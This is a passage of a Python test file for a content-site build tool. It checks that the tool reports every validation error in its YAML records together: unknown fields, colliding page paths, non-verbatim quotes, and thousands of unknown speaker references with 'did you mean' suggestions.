    assert len(lines) == 1_500
    assert lines[-1].startswith("content/topics/border.yml:3:")


# ---- Errors are all at once ----

def test_a_field_error_hides_neither_archive_mismatches_nor_page_collisions(tree, build):
    archived(tree, "Pat said: yes, and only yes.\n")
    write(tree, "topics/border.yml", "id: border\ntitle: The border\nsummary: Where it runs [@paper].\ncolour: red\n")
    write(tree, "pages/quotes.yml", "id: quotes\ntitle: Quotes\nbody: A page of our own [@paper].\n")
    result = build("--out", "site", "--archive", "archive", cwd=tree)
    assert_only_problem_lines(result.stderr)
    assert result.returncode == 1
    lines = result.stderr.splitlines()
    assert len(lines) == 4 and lines[:2] == [
        "content/pages/quotes.yml:1:5: error: two pages would write quotes/index.html: this record's page and "
        "the built-in quotes page; change the id",
        "content/quotes/pat-no.yml:4:11: error: quote 'pat-no' is not verbatim in source 'paper': \"No.\"; "
        "closest passage: \"Pat said: yes,\""]
    assert lines[2].startswith("content/topics/border.yml:4:1: error: unknown field 'colour'; 'topic' takes id, ")
    assert not (tree / "site").exists()


def test_thousands_of_unknown_references_each_get_their_error_and_close_ones_a_suggestion(tree, build):
    # More people than are compared in full, and more unknown speakers than suggestions are made for:
    # every reference gets its error, the close ones first in the file their suggestion.
    write(tree, "people/many.yml", "".join(f"- id: person-{number}\n  name: P\n  roles:\n    - title: T\n"
                                           f"      actor: left\n      cite: [paper]\n" for number in range(3_000)))
    speakers = ["person-1234x", "xerson-2718", "persn-42", "zz"] + [f"missing-{number}" for number in range(3_000)]
    write(tree, "quotes/many.yml", "".join(f"- id: q{number}\n  speaker: {speaker}\n  wordings:\n"
                                           f"    - text: \"W.\"\n      cite: [paper]\n"
                                           for number, speaker in enumerate(speakers)))
    result = build("check", cwd=tree)
    assert_reports(result, "content/quotes/many.yml:2:12: error: unknown person 'person-1234x' "
                           "(did you mean 'person-1234'?)")
    lines = result.stderr.splitlines()
    assert "content/quotes/many.yml:7:12: error: unknown person 'xerson-2718' (did you mean 'person-2718'?)" in lines
    assert "content/quotes/many.yml:12:12: error: unknown person 'persn-42' (did you mean 'person-42'?)" in lines
    assert "content/quotes/many.yml:17:12: error: unknown person 'zz'" in lines
    unknown = [line for line in lines if ": error: unknown person '" in line]
    assert len(unknown) == len(speakers)
    assert [line for line in lines if ": error: " in line] == unknown
    # past the budget a suggestion is left off (compared with every person, difflib would offer person-2999)
    assert unknown[-1] == f"content/quotes/many.yml:{5 * len(speakers) - 3}:12: error: unknown person 'missing-2999'"
